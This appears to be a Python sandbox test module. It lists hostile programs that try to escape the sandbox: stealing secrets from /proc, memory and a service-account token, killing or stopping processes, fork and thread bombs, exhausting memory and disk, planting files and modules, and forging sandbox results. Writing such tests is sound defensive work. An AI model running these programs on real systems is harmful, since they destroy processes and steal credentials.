"""The hostile programs, what each attempts, and how each may end.

Every program is plain Python, prefixed with `prelude(target)` (the ports,
paths and file-name marker of one run: nothing secret). A program prints a
line starting with `ACHIEVED` when an attack step worked; the harness also
checks what a program cannot report itself (a listener's accepts, a
bystander process, files outside the scratch directory, survivors, secrets
in any output). Self-bounding thresholds (2 GiB, 256 MiB, 2,000 threads,
10 s) end a program that met no limit, so a hole is reported, not suffered.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field

from reward_service.sandbox import Kind

ACHIEVED = "ACHIEVED"
SECRET_PATTERN = "canary[0-9a-f]{32}"
"""The shape of every secret canary (the pattern itself never matches itself)."""

ERR, OK, TIME, MEM, OUT = (
    Kind.RUNTIME_ERROR,
    Kind.OK,
    Kind.TIME_LIMIT,
    Kind.MEMORY_LIMIT,
    Kind.OUTPUT_LIMIT,
)


@dataclass(frozen=True)
class Target:
    """What one program may aim at: loopback ports, paths, and its file-name marker."""

    run_id: str
    service_port: int
    tcp_port: int
    tcp6_port: int
    udp_port: int
    unix_name: str
    repo: str
    home: str
    site: str
    token_path: str = "/var/run/secrets/kubernetes.io/serviceaccount/token"

    def outside_paths(self) -> list[str]:
        """Where a file named by `run_id` must never appear (the parent of cwd is added per run)."""
        places = ["/tmp", "/var/tmp", "/dev/shm", self.home, self.repo, self.site, "/"]
        return [
            f"{place.rstrip('/')}/{self.run_id}{suffix}"
            for place in places
            for suffix in ("", "-daemon", ".py")
        ]


def prelude(target: Target) -> str:
    """The constants a program reads its targets from."""
    return textwrap.dedent(
        f"""\
        RUN_ID = {target.run_id!r}
        SERVICE_PORT = {target.service_port}
        TCP_PORT = {target.tcp_port}
        TCP6_PORT = {target.tcp6_port}
        UDP_PORT = {target.udp_port}
        UNIX_NAME = {target.unix_name!r}
        REPO = {target.repo!r}
        HOME = {target.home!r}
        SITE = {target.site!r}
        TOKEN_PATH = {target.token_path!r}
        SECRET_PATTERN = {SECRET_PATTERN!r}
        """
    )


@dataclass(frozen=True)
class Hostile:
    """One hostile program: its aim, its source, and the kinds of end that are right for it."""

    name: str
    aim: str
    body: str
    kinds: frozenset[Kind]
    time_s: float = 1.0
    memory_mb: int = 128
    output_bytes: int = 64 * 1024
    gate: str = ""
    """A capability the sandbox must bound before this runs at all (`fork`)."""
    tags: tuple[str, ...] = field(default=())
    language: str = "python"
    """The sandbox runner it is (`hostile_native` holds the C++ ones)."""

    def source(self, target: Target) -> str:
        return prelude(target) + textwrap.dedent(self.body)


def _h(name: str, aim: str, body: str, *kinds: Kind, **extra: object) -> Hostile:
    return Hostile(name, aim, body, frozenset(kinds), **extra)  # type: ignore[arg-type]


def _heap_scan(pattern: bytes) -> str:
    """Source that collects `found`, every match of `pattern` in the run's own memory.

    No /proc: ctypes reads the heap (below the program break) and the object
    arenas (around every live object) a page at a time through a pipe, so an
    unmapped page is an EFAULT, not a crash.
    """
    return textwrap.dedent(
        f"""\
        import ctypes, gc, os, re
        libc = ctypes.CDLL(None, use_errno=True)
        libc.sbrk.restype = ctypes.c_void_p
        libc.sbrk.argtypes = [ctypes.c_long]
        libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
        libc.write.restype = ctypes.c_ssize_t
        pattern = re.compile({pattern!r})
        r, w = os.pipe()
        PAGE, found, pages = 4096, [], 0
        def page(addr):
            n = libc.write(w, addr, PAGE)
            return os.read(r, n) if n > 0 else None
        def scan(start, count):
            global pages
            tail = b""
            for i in range(count):
                data = page(start + i * PAGE)
                if data is None:
                    tail = b""
                    continue
                pages += 1
                found.extend(m for m in pattern.findall(tail + data) if m not in found)
                tail = data[-48:]
        scan(libc.sbrk(0) - (96 << 20), (96 << 20) // PAGE)
        for arena in sorted({{id(o) & ~((256 << 10) - 1) for o in gc.get_objects()}})[:400]:
            scan(arena, (256 << 10) // PAGE)
        """
    )


_WRITE = """\
import os
path = os.path.join({where}, RUN_ID)
with open(path, "w") as f:
    f.write("x")
print("wrote", path)
"""

_NET = """\
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
AF_UNIX, AF_INET, AF_INET6, AF_NETLINK, AF_PACKET = 1, 2, 10, 16, 17
SOCK_STREAM, SOCK_DGRAM, SOCK_RAW = 1, 2, 3
def check(result, what):
    if result < 0:
        errno = ctypes.get_errno()
        raise OSError(errno, what + ": " + os.strerror(errno))
    return result
def inet(port):
    return struct.pack(">H4s8x", port, bytes([127, 0, 0, 1]))
def inet6(port):
    return struct.pack(">HI16sI", port, 0, bytes(15) + b"\\1", 0)
def connect(family, address):
    fd = check(libc.socket(family, SOCK_STREAM, 0), "socket")
    to = struct.pack("=H", family) + address
    check(libc.connect(fd, to, len(to)), "connect")
    check(libc.send(fd, b"GET /livez HTTP/1.0\\r\\n\\r\\n", 23, 0), "send")
    print("ACHIEVED connected", family)
"""

_READ = """\
with open({path}, "rb") as f:
    print(f.read(65536))
"""

_SIGIO = """\
import fcntl, os, struct, time
F_SETSIG, F_SETOWN_EX, F_OWNER_PID, F_OWNER_PGRP = 10, 15, 1, 2
FIOASYNC, IOCTL_OWNERS = 0x5452, {"FIOSETOWN": 0x8901, "SIOCSPGRP": 0x8902}
SIGSTOP, SIGCONT = 19, 18
me = os.getpid()
def state(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return None
def visible():
    try:
        return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)
    except OSError:
        return []
def own(fd, who, how):
    if how == "F_SETOWN_EX":
        kind = F_OWNER_PGRP if who < 0 else F_OWNER_PID
        fcntl.fcntl(fd, F_SETOWN_EX, struct.pack("ii", kind, abs(who)))
    elif how in IOCTL_OWNERS:
        try:
            fcntl.ioctl(fd, IOCTL_OWNERS[how], struct.pack("i", who))
        except OSError:  # a socket's ioctl: on a pipe, F_SETOWN does it
            fcntl.fcntl(fd, fcntl.F_SETOWN, who)
    else:
        fcntl.fcntl(fd, fcntl.F_SETOWN, who)
def send(who, sig, how, asynchronous):
    # the kernel sends `sig` to the owner of a pipe's read end when input arrives
    r, w = os.pipe()
    try:
        own(r, who, how)
        fcntl.fcntl(r, F_SETSIG, sig)
        if asynchronous == "FIOASYNC":
            fcntl.ioctl(r, FIOASYNC, struct.pack("i", 1))
        else:
            fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(w, b"x")
        return "sent"
    except OSError as exc:
        return exc.strerror
    finally:
        os.close(r)
        os.close(w)
def stop(pid, who=None, how="F_SETOWN", asynchronous="F_SETFL"):
    # SIGSTOP for SIGKILL: stopped is killed; continued at once, the same way
    if state(pid) not in ("S", "R", "D", None):
        return "already " + str(state(pid))
    sent = send(pid if who is None else who, SIGSTOP, how, asynchronous)
    stopped = False
    for _ in range(40):
        stopped = state(pid) == "T"
        if stopped or sent != "sent":
            break
        time.sleep(0.005)
    send(pid if who is None else who, SIGCONT, how, asynchronous)
    if stopped:
        print("ACHIEVED stopped", pid, "by", how, "and", asynchronous, "(it could have killed it)")
    return "stopped" if stopped else sent
"""

_METADATA = """\
import ctypes, os, platform, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
AT_FDCWD, X86_64 = -100, platform.machine() == "x86_64"
scratch_root = os.path.dirname(os.path.realpath(os.getcwd()))
TARGETS = [p for p in (scratch_root, REPO, TOKEN_PATH) if os.path.lexists(p)]
def raw(number, *args):
    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(ctypes.c_long(number), *args)
    if result < 0:
        errno = ctypes.get_errno()
        raise OSError(errno, os.strerror(errno))
    return result
def attempt(calls):
    # each call sets a target's metadata to what it was: a success is the hole, no harm done;
    # a call that answers False did not apply (no descriptor, not a regular file, not x86_64)
    for path in TARGETS:
        st = os.stat(path)
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            fd = None
        for name, call in calls.items():
            try:
                if call(path.encode(), st, fd) is False:
                    continue
            except OSError as exc:
                print(name, path, "->", exc.strerror)
            else:
                print("ACHIEVED", name, "on", path, "outside its scratch directory")
        if fd is not None:
            os.close(fd)
"""


PROGRAMS: tuple[Hostile, ...] = (
    # secrets
    _h(
        "print_environ",
        "print the environment it was given",
        "import os\nprint(len(os.environ), dict(os.environ))\n",
        OK,
    ),
    _h(
        "proc_self_environ",
        "read its own initial environment from /proc",
        _READ.format(path='"/proc/self/environ"'),
        OK,
        ERR,
    ),
    _h(
        "proc_parent_environ",
        "read its parent's environment",
        _READ.format(path='"/proc/%d/environ" % __import__("os").getppid()'),
        OK,
        ERR,
    ),
    _h(
        "proc_init_environ",
        "read PID 1's environment",
        _READ.format(path='"/proc/1/environ"'),
        OK,
        ERR,
    ),
    _h(
        "proc_every_environ",
        "read every /proc/*/environ and cmdline it can see",
        """\
       import os
       seen = []
       for pid in (p for p in os.listdir("/proc") if p.isdigit()):
           for part in ("environ", "cmdline"):
               try:
                   with open(f"/proc/{pid}/{part}", "rb") as f:
                       seen.append((pid, part, f.read()))
               except OSError as exc:
                   seen.append((pid, part, type(exc).__name__))
       print(seen)
       """,
        OK,
        ERR,
        output_bytes=1 << 20,
    ),
    _h(
        "serviceaccount_token",
        "read the pod's service-account token",
        _READ.format(path="TOKEN_PATH"),
        ERR,
        OK,
    ),
    _h(
        "scan_own_memory",
        "search its own memory (inherited from the zygote) for secrets",
        """\
       import re
       pattern, found = re.compile(SECRET_PATTERN.encode()), set()
       with open("/proc/self/maps") as maps:
           regions = [line.split() for line in maps]
       with open("/proc/self/mem", "rb", 0) as mem:
           for region in regions:
               if not region[1].startswith("r") or len(region) > 5 and region[5] == "[vvar]":
                   continue
               start, end = (int(x, 16) for x in region[0].split("-"))
               if end - start > (64 << 20):
                   continue
               try:
                   mem.seek(start)
                   found.update(pattern.findall(mem.read(end - start)))
               except (OSError, ValueError, OverflowError):
                   pass
       print(sorted(found))
       """,
        OK,
        ERR,
        time_s=2.0,
        memory_mb=512,
    ),
    _h(
        "scan_parent_memory",
        "read its parent's memory through /proc/<ppid>/mem for secrets",
        """\
       import os, re
       pattern, found, ppid = re.compile(SECRET_PATTERN.encode()), set(), os.getppid()
       with open(f"/proc/{ppid}/maps") as maps:
           regions = [line.split() for line in maps]
       with open(f"/proc/{ppid}/mem", "rb", 0) as mem:
           for region in regions:
               start, end = (int(x, 16) for x in region[0].split("-"))
               if not region[1].startswith("r") or end - start > (64 << 20):
                   continue
               try:
                   mem.seek(start)
                   found.update(pattern.findall(mem.read(end - start)))
               except (OSError, ValueError, OverflowError):
                   pass
       print("read", len(regions), "regions of", ppid, sorted(found))
       """,
        OK,
        ERR,
        time_s=2.0,
        memory_mb=512,
    ),
    *(
        _h(
            f"leave_output_{copies}",
            "print a fresh marker (as one more answer's output), for a later run to find in memory",
            f'import os\nprint(("leftover" + os.urandom(16).hex() + "\\n") * {copies})\n',
            OK,
        )
        for copies in (10, 400, 1200)
    ),
    _h(
        "scan_inherited_heap",
        "read its own heap with ctypes (no /proc) for earlier runs' output and secrets",
        _heap_scan(rb"(?:canary|leftover)[0-9a-f]{32}")
        + 'print("scanned", pages, "pages:", sorted(x.decode() for x in found))\n',
        OK,
        ERR,
        time_s=2.0,
        memory_mb=256,
    ),
    _h(
        "forge_report_fd",
        "write the sandbox's memory-error mark into its report descriptor, then fail",
        "import os, sys\ntry:\n    os.write(3, b'M')\nexcept OSError:\n    pass\nsys.exit(1)\n",
        ERR,
    ),
    # network (loopback targets only), through libc: no module import to fail first
    _h(
        "connect_service_port",
        "open a TCP connection to the service's own port",
        _NET + "connect(AF_INET, inet(SERVICE_PORT))\n",
        ERR,
    ),
    _h(
        "connect_loopback_listener",
        "connect to a listener the test opened on 127.0.0.1",
        _NET + "connect(AF_INET, inet(TCP_PORT))\n",
        ERR,
    ),
    _h(
        "connect_ipv6_loopback",
        "connect to a listener the test opened on [::1]",
        _NET + "connect(AF_INET6, inet6(TCP6_PORT))\n",
        ERR,
    ),
    _h(
        "udp_send_loopback",
        "send UDP datagrams to a receiver the test opened on 127.0.0.1",
        _NET
        + """\
fd = check(libc.socket(AF_INET, SOCK_DGRAM, 0), "socket")
to = struct.pack("=H", AF_INET) + inet(UDP_PORT)
for _ in range(5):
    check(libc.sendto(fd, b"hostile datagram", 16, 0, to, len(to)), "sendto")
print("sendto returned")
""",
        ERR,
        OK,
    ),
    _h(
        "unix_abstract_socket",
        "connect to an abstract AF_UNIX socket the test listens on",
        _NET + 'connect(AF_UNIX, b"\\0" + UNIX_NAME.encode())\n',
        ERR,
    ),
    _h(
        "list_interfaces",
        "list network interfaces, routes and listening sockets; open sockets of every family",
        _NET
        + """\
def attempt(what, fn):
    try:
        value = fn()
        print(what, "->", str(value)[:200])
        return value
    except Exception as exc:
        print(what, "-> failed:", type(exc).__name__, exc)
routes = attempt("route", lambda: open("/proc/net/route").read().splitlines()[1:]) or []
dev = attempt("dev", lambda: [l.split(":")[0].strip()
                              for l in open("/proc/net/dev").read().splitlines()[2:]]) or []
tcp = attempt("tcp", lambda: open("/proc/net/tcp").read()) or ""
families = {"inet": (AF_INET, SOCK_STREAM), "inet6": (AF_INET6, SOCK_STREAM),
            "unix": (AF_UNIX, SOCK_STREAM), "raw": (AF_INET, SOCK_RAW),
            "packet": (AF_PACKET, SOCK_RAW), "netlink": (AF_NETLINK, SOCK_RAW)}
opened = [name for name, (family, kind) in families.items()
          if attempt("socket " + name, lambda: check(libc.socket(family, kind, 0), name))]
outside = sorted({n for n in dev if n != "lo"})
print("SEES interfaces", outside, len(routes), "routes; opened sockets:", opened)
if (outside or routes) and set(opened) & {"inet", "inet6", "raw", "packet"}:
    print("ACHIEVED opened", opened, "with interfaces", outside, "and routes out")
if (":%04X" % SERVICE_PORT) in tcp:
    print("SEES the service's listening socket in /proc/net/tcp")
""",
        OK,
        ERR,
    ),
    # escape: daemons and files outside the scratch directory
    _h(
        "daemon_escape",
        "double-fork and setsid a daemon that writes files later and lingers",
        """\
       import os, time
       if os.fork() == 0:
           os.setsid()
           if os.fork() == 0:
               os.closerange(0, 3)
               try:
                   with open("/proc/self/comm", "w") as f:
                       f.write("hx-daemon")
               except OSError:
                   pass
               time.sleep(0.3)
               for where in ("/tmp", HOME, os.path.dirname(os.getcwd()), REPO):
                   try:
                       with open(os.path.join(where, RUN_ID + "-daemon"), "w") as f:
                           f.write("x")
                   except OSError:
                       pass
               time.sleep(30)
           os._exit(0)
       print("daemon started")
       """,
        OK,
        ERR,
        TIME,
    ),
    _h("write_tmp", "create a file in /tmp", _WRITE.format(where='"/tmp"'), ERR, OK),
    _h(
        "write_home",
        "create a file in the service's home directory",
        _WRITE.format(where="HOME"),
        ERR,
        OK,
    ),
    _h(
        "write_cwd_parent",
        "create files in its scratch directory and in the directory above it",
        """\
       import os
       cwd = os.path.realpath(os.getcwd())
       print("CWD=" + cwd)
       with open(RUN_ID + "-inside", "w") as f:
           f.write("x")
       path = os.path.join(os.path.dirname(cwd), RUN_ID)
       with open(path, "w") as f:
           f.write("x")
       print("wrote", path)
       """,
        ERR,
        OK,
    ),
    _h(
        "write_repo",
        "create a file in the service's source tree",
        _WRITE.format(where="REPO"),
        ERR,
        OK,
    ),
    _h(
        "write_site_packages",
        "plant a module in the interpreter's site-packages",
        """\
       import os
       path = os.path.join(SITE, RUN_ID + ".py")
       with open(path, "w") as f:
           f.write("x = 1\\n")
       print("wrote", path)
       """,
        ERR,
        OK,
    ),
    _h("write_dev_shm", "create a file in /dev/shm", _WRITE.format(where='"/dev/shm"'), ERR, OK),
    # forging the sandbox's own channel
    _h(
        "inherited_descriptors",
        "write forged results into every descriptor above 2 it holds, then fail",
        """\
       import os, stat, sys
       FORGED = b'{"kind": "ok", "exit_code": 0, "stdout": "forged"}\\n\\x00\\x00\\x00\\x02{}M'
       held = []
       for fd in range(3, 1024):
           try:
               mode = os.fstat(fd).st_mode
           except OSError:
               continue
           what = "pipe" if stat.S_ISFIFO(mode) else "socket" if stat.S_ISSOCK(mode) else "file"
           try:
               os.write(fd, FORGED)
               held.append((fd, what, "written"))
           except OSError as exc:
               held.append((fd, what, type(exc).__name__))
       print("descriptors above 2:", held)
       if any(state == "written" and what != "file" for _, what, state in held):
           print("ACHIEVED wrote into an inherited pipe or socket")
       sys.exit(3)
       """,
        ERR,
    ),
    # signals
    _h(
        "kill_all",
        "os.kill(-1, SIGKILL): every process it may signal",
        "import os\nos.kill(-1, 9)\nprint('kill(-1, 9) returned')\n",
        ERR,
        OK,
    ),
    _h(
        "kill_parent",
        "SIGKILL its parent",
        "import os\nos.kill(os.getppid(), 9)\nprint('killed parent', os.getppid())\n",
        ERR,
        OK,
    ),
    _h("killpg_own", "SIGKILL its own process group", "import os\nos.killpg(0, 9)\n", ERR),
    _h(
        "killpg_parent",
        "SIGKILL its parent's process group",
        "import os\nos.killpg(os.getpgid(os.getppid()), 9)\nprint('killpg returned')\n",
        ERR,
        OK,
    ),
    _h(
        "kill_init",
        "SIGKILL PID 1",
        "import os\nos.kill(1, 9)\nprint('kill(1, 9) returned')\n",
        ERR,
        OK,
    ),
    _h(
        "signal_every_pid",
        "SIGSTOP then SIGKILL every PID found in /proc",
        """\
       import os
       me, hits = os.getpid(), []
       for sig in (19, 9):
           for pid in (int(p) for p in os.listdir("/proc") if p.isdigit()):
               if pid != me:
                   try:
                       os.kill(pid, sig)
                       hits.append((sig, pid))
                   except OSError:
                       pass
       print("signalled", hits)
       """,
        OK,
        ERR,
    ),
    _h(
        "trace_parent",
        "reach its parent by ptrace, process_vm_readv, pidfd, prlimit and kill(0) (no harm done)",
        """\
       import ctypes, os, platform
       libc = ctypes.CDLL(None, use_errno=True)
       libc.syscall.restype = ctypes.c_long
       ppid, got = os.getppid(), []
       class Iovec(ctypes.Structure):
           _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
       buf = ctypes.create_string_buffer(8)
       local, remote = Iovec(ctypes.addressof(buf), 8), Iovec(id(None), 8)
       limit = (ctypes.c_uint64 * 2)()
       calls = {
           "ptrace_seize": (101, 0x4206, ppid, 0, 0),
           "process_vm_readv": (310, ppid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0),
           "pidfd_open": (434, ppid, 0),
           "prlimit64_get": (302, ppid, 4, None, ctypes.byref(limit)),
           "kill_sig0": (62, ppid, 0),
       }
       if platform.machine() == "x86_64" and ppid > 0:
           for name, (nr, *args) in calls.items():
               result = libc.syscall(ctypes.c_long(nr), *args)
               got.append((name, result, os.strerror(ctypes.get_errno()) if result < 0 else ""))
               if name == "pidfd_open" and result >= 0:
                   sent = libc.syscall(ctypes.c_long(424), int(result), 0, None, 0)
                   got.append(("pidfd_send_signal_sig0", sent, ""))
       print("parent", ppid, got)
       reached = [name for name, result, _ in got if result >= 0]
       if reached:
           print("ACHIEVED reached its parent through", reached)
       """,
        OK,
        ERR,
    ),
    # signals the kernel sends for a file's owner (SIGSTOP stands in for SIGKILL: what stops
    # could be killed, and is continued at once), memory and files no limit sees, metadata
    _h(
        "sigio_stop_parent",
        "make the kernel SIGSTOP its parent and its parent's group as their pipe's owner "
        "(F_SETOWN, F_SETOWN_EX, F_SETSIG, O_ASYNC)",
        _SIGIO
        + """\
ppid = os.getppid()
group = os.getpgid(ppid)
for how in ("F_SETOWN", "F_SETOWN_EX"):
    print(how, ppid, stop(ppid, ppid, how), "group", group, stop(ppid, -group, how))
""",
        OK,
        ERR,
        time_s=2.0,
    ),
    _h(
        "sigio_stop_every_pid",
        "make the kernel SIGSTOP every pid it sees in /proc as their pipe's owner (F_SETOWN)",
        _SIGIO + 'print("pids", [(pid, stop(pid)) for pid in [os.getppid(), *visible()]])\n',
        OK,
        ERR,
        time_s=3.0,
    ),
    _h(
        "sigio_ioctl_every_pid",
        "the same with ioctl FIOSETOWN or SIOCSPGRP (F_SETOWN where those do not apply) "
        "and ioctl FIOASYNC",
        _SIGIO
        + """\
for how in ("FIOSETOWN", "SIOCSPGRP"):
    pids = [os.getppid(), *visible()]
    print(how, [(pid, stop(pid, None, how, "FIOASYNC")) for pid in pids])
""",
        OK,
        ERR,
        time_s=4.0,
    ),
    _h(
        "memfd_past_memory_cap",
        "hold 4 times its 128 MiB memory cap in memfd_create files (fallocate, a new one "
        "whenever the file-size limit stops one)",
        """\
       import os
       held, fds = 0, []
       try:
           while held < (512 << 20) and len(fds) < 50:
               fds.append(os.memfd_create("hostile"))
               size = 0
               while held < (512 << 20):
                   try:
                       os.posix_fallocate(fds[-1], size, 16 << 20)
                   except OSError:
                       break
                   size, held = size + (16 << 20), held + (16 << 20)
               if not size:
                   break
       except OSError as exc:
           print("memfd_create:", exc.strerror)
       print("held", held >> 20, "MiB in", len(fds), "memfds")
       if held >= (512 << 20):
           print("ACHIEVED held", held >> 20, "MiB past its 128 MiB memory cap")
       """,
        OK,
        ERR,
        time_s=2.0,
    ),
    _h(
        "tmpfile_unseen",
        "fill 4 times the scratch size with O_TMPFILE files, which no directory shows",
        """\
       import os
       held, fds = 0, []
       try:
           while held < (256 << 20) and len(fds) < 50:
               fds.append(os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600))
               size = 0
               while held < (256 << 20):
                   try:
                       os.posix_fallocate(fds[-1], size, 16 << 20)
                   except OSError:
                       break
                   size, held = size + (16 << 20), held + (16 << 20)
               if not size:
                   break
       except OSError as exc:
           print("O_TMPFILE:", exc.strerror)
       print("held", held >> 20, "MiB in", len(fds), "unnamed files")
       if held >= (256 << 20):
           print("ACHIEVED held", held >> 20, "MiB in files no directory shows")
       """,
        OK,
        ERR,
        OUT,
        time_s=2.0,
    ),
    _h(
        "chmod_outside",
        "chmod, fchmod, fchmodat2 (and chmod on x86_64) its scratch root, the source tree and "
        "the token, each to its own mode",
        _METADATA
        + """\
attempt({
    "chmod": lambda p, st, fd: os.chmod(p, st.st_mode & 0o7777),
    "fchmod": lambda p, st, fd: fd is not None and os.fchmod(fd, st.st_mode & 0o7777),
    "fchmodat2": lambda p, st, fd: raw(452, AT_FDCWD, p, st.st_mode & 0o7777, 0),
    "chmod(90)": lambda p, st, fd: X86_64 and raw(90, p, st.st_mode & 0o7777),
})
""",
        OK,
        ERR,
    ),
    _h(
        "chown_outside",
        "chown, lchown, fchown (and the x86_64 calls) the same targets to their own owners",
        _METADATA
        + """\
attempt({
    "chown": lambda p, st, fd: os.chown(p, st.st_uid, st.st_gid),
    "lchown": lambda p, st, fd: os.lchown(p, st.st_uid, st.st_gid),
    "fchown": lambda p, st, fd: fd is not None and os.fchown(fd, st.st_uid, st.st_gid),
    "chown(92)": lambda p, st, fd: X86_64 and raw(92, p, st.st_uid, st.st_gid),
    "lchown(94)": lambda p, st, fd: X86_64 and raw(94, p, st.st_uid, st.st_gid),
})
""",
        OK,
        ERR,
    ),
    _h(
        "xattr_outside",
        "set and remove an extended attribute on the same targets: setxattr, lsetxattr, "
        "fsetxattr, setxattrat, removexattrat",
        _METADATA
        + """\
value = ctypes.create_string_buffer(b"1")
xattr_args = struct.pack("=QII", ctypes.addressof(value), 1, 0)
def both(set_, remove):
    set_()
    try:
        remove()
    except OSError:
        pass
attempt({
    "setxattr": lambda p, st, fd: both(
        lambda: os.setxattr(p, "user.hostile", b"1"), lambda: os.removexattr(p, "user.hostile")),
    "lsetxattr": lambda p, st, fd: both(
        lambda: os.setxattr(p, "user.hostile", b"1", follow_symlinks=False),
        lambda: os.removexattr(p, "user.hostile", follow_symlinks=False)),
    "fsetxattr": lambda p, st, fd: fd is not None and both(
        lambda: os.setxattr(fd, "user.hostile", b"1"), lambda: os.removexattr(fd, "user.hostile")),
    "setxattrat": lambda p, st, fd: both(
        lambda: raw(463, AT_FDCWD, p, 0, b"user.hostile", xattr_args, 16),
        lambda: raw(466, AT_FDCWD, p, 0, b"user.hostile")),
})
""",
        OK,
        ERR,
    ),
    _h(
        "utime_outside",
        "set the same targets' times to what they were: utimensat, futimens (and utime, "
        "utimes, futimesat on x86_64)",
        _METADATA
        + """\
def utimbuf(st):
    return struct.pack("=qq", int(st.st_atime), int(st.st_mtime))
def timevals(st):
    return struct.pack("=qqqq", int(st.st_atime), 0, int(st.st_mtime), 0)
attempt({
    "utimensat": lambda p, st, fd: os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns)),
    "futimens": lambda p, st, fd: fd is not None and os.utime(
        fd, ns=(st.st_atime_ns, st.st_mtime_ns)),
    "utime(132)": lambda p, st, fd: X86_64 and raw(132, p, utimbuf(st)),
    "utimes(235)": lambda p, st, fd: X86_64 and raw(235, p, timevals(st)),
    "futimesat(261)": lambda p, st, fd: X86_64 and raw(261, AT_FDCWD, p, timevals(st)),
})
""",
        OK,
        ERR,
    ),
    _h(
        "truncate_outside",
        "truncate (by path) every regular file among the same targets to its own size",
        _METADATA
        + """\
import stat
attempt({
    "truncate": lambda p, st, fd: stat.S_ISREG(st.st_mode) and os.truncate(p, st.st_size),
})
""",
        OK,
        ERR,
    ),
    _h(
        "inode_flags_outside",
        "write the same targets' inode flags back as they are: file_setattr, ioctl "
        "FS_IOC_SETFLAGS and FS_IOC_FSSETXATTR",
        _METADATA
        + """\
import fcntl
def rewrite(fd, get, put, size):
    buffer = bytearray(size)
    fcntl.ioctl(fd, get, buffer)
    fcntl.ioctl(fd, put, bytes(buffer))
attr = ctypes.create_string_buffer(24)
attempt({
    "file_setattr": lambda p, st, fd: (
        raw(468, AT_FDCWD, p, attr, 24, 0), raw(469, AT_FDCWD, p, attr, 24, 0)),
    "FS_IOC_SETFLAGS": lambda p, st, fd: fd is not None and rewrite(
        fd, 0x80086601, 0x40086602, 4),
    "FS_IOC_FSSETXATTR": lambda p, st, fd: fd is not None and rewrite(
        fd, 0x801C581F, 0x401C5820, 28),
})
""",
        OK,
        ERR,
    ),
    # processes
    _h(
        "subprocess_spawn",
        "start a shell",
        """\
       import os
       pid = os.posix_spawn("/bin/sh", ["sh", "-c", "echo ACHIEVED a shell ran"], {})
       os.waitpid(pid, 0)
       """,
        ERR,
    ),
    _h(
        "exec_shell",
        "replace itself with a shell",
        'import os\nos.execv("/bin/sh", ["sh", "-c", "echo ACHIEVED exec ran a shell"])\n',
        ERR,
    ),
    _h(
        "thread_bomb",
        "start threads without end",
        """\
       import _thread, os, time
       n = 0
       while True:
           _thread.start_new_thread(time.sleep, (60,))
           n += 1
           if n >= 2000:
               print("ACHIEVED started", n, "threads", flush=True)
               os._exit(0)
       """,
        ERR,
        MEM,
        TIME,
    ),
    _h(
        "fork_bomb",
        "os.fork() in a loop, in every child too",
        "import os\nwhile True:\n    os.fork()\n",
        ERR,
        TIME,
        MEM,
        gate="fork",
    ),
    # memory, disk, output, time
    _h(
        "memory_bytearray",
        "grow one bytearray without end",
        """\
       import os
       b = bytearray()
       while True:
           b += bytes(16 << 20)
           if len(b) >= (2 << 30):
               print("ACHIEVED held", len(b) >> 20, "MiB", flush=True)
               os._exit(0)
       """,
        MEM,
        # The cap, not the clock, must stop it even on a loaded machine.
        time_s=5.0,
    ),
    _h(
        "memory_list",
        "grow a list of lists without end",
        """\
       import os
       hoard = []
       while True:
           hoard.append([0] * (1 << 20))
           if len(hoard) >= 256:
               print("ACHIEVED held", len(hoard) * 8, "MiB", flush=True)
               os._exit(0)
       """,
        MEM,
        # The cap, not the clock, must stop it even on a loaded machine.
        time_s=5.0,
    ),
    _h(
        "deep_recursion",
        "recurse a million deep after sys.setrecursionlimit(10**6)",
        """\
       import sys
       sys.setrecursionlimit(10**6)
       def down(n):
           return down(n + 1) + 1
       down(0)
       """,
        ERR,
        MEM,
        TIME,  # 3.11 keeps Python frames on the heap: a slow climb, a long traceback
    ),
    _h(
        "disk_one_file",
        "write one file without end",
        """\
       import os
       chunk, n = b"x" * (1 << 20), 0
       with open("big.bin", "wb") as f:
           while True:
               f.write(chunk)
               f.flush()
               n += 1
               if n >= 256:
                   print("ACHIEVED wrote a", n, "MiB file", flush=True)
                   os._exit(0)
       """,
        ERR,
        OUT,
        TIME,  # a slow disk may end it first: the ACHIEVED mark catches a missing bound
    ),
    _h(
        "disk_many_files",
        "write 1 MiB files without end, up to 4 times the scratch size",
        """\
       import os
       chunk, n = b"x" * (1 << 20), 0
       while True:
           with open("f%d" % n, "wb") as f:
               f.write(chunk)
           n += 1
           if n >= 256:
               print("ACHIEVED wrote", n, "files of 1 MiB", flush=True)
               os._exit(0)
       """,
        ERR,
        OUT,
        TIME,  # a slow disk may end it first: the ACHIEVED mark catches a missing bound
        time_s=2.0,
    ),
    _h(
        "stdout_endless",
        "print without end",
        """\
       import os
       n = 0
       while True:
           print("y" * 1023)
           n += 1
           if n >= 256 * 1024:
               print("ACHIEVED printed 256 MiB", flush=True)
               os._exit(0)
       """,
        OUT,
        tags=("raw_stdout",),
    ),
    _h(
        "stdout_one_giant_write",
        "write 48 MiB to stdout in one call",
        'import sys\nsys.stdout.buffer.write(b"x" * (48 << 20))\nsys.stdout.flush()\n',
        OUT,
        tags=("raw_stdout",),
    ),
    _h(
        "stderr_bomb",
        "write to stderr without end",
        """\
       import sys, time
       start = time.monotonic()
       while time.monotonic() - start < 10:
           sys.stderr.write("e" * 4095 + "\\n")
       print("ACHIEVED wrote to stderr for 10 s")
       """,
        TIME,
        OUT,
        time_s=0.5,
    ),
    _h(
        "raise_own_limits",
        "raise its own hard limits (memory, files, processes) and then use them",
        """\
       import os, resource
       raised = []
       for name in ("AS", "FSIZE", "NPROC", "NOFILE", "CPU"):
           which = getattr(resource, "RLIMIT_" + name)
           try:
               resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
               raised.append(name)
           except (OSError, ValueError):
               pass
       print("raised", raised)
       if raised:
